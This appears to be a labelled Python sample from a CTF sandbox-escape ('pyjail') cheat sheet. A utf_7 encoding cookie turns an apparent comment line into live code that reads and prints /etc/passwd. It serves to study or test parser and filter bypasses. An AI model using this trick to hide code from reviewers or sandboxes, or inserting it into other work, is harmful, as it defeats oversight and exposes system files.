# -*- coding: utf_7 -*-
# Source: github.com/salvatore-abello/python-ctf-cheatsheet pyjails/README.md (Bypass parsers using comments and encodings)
# Family: source-encoding
# What: utf_7 cookie hides print(open('/etc/passwd').read()) inside a comment line
def f(x):
    return x
    #+AAo-print(open(+ACI-/etc/passwd+ACI-).read())
f(0)
